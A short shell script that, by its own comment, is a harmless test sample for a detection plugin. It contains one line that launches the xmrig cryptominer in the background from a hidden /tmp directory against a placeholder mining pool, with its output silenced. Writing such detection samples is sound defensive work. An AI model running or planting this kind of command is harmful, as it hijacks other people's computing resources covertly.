#!/bin/sh
# A harmless sample of what the plugin looks for: a script that would start a miner against a
# mining pool (there is no miner here).
cd /tmp/.cache || exit 1
nohup ./xmrig --url stratum+tcp://pool.example.com:3333 --user WALLET --pass x >/dev/null 2>&1 &
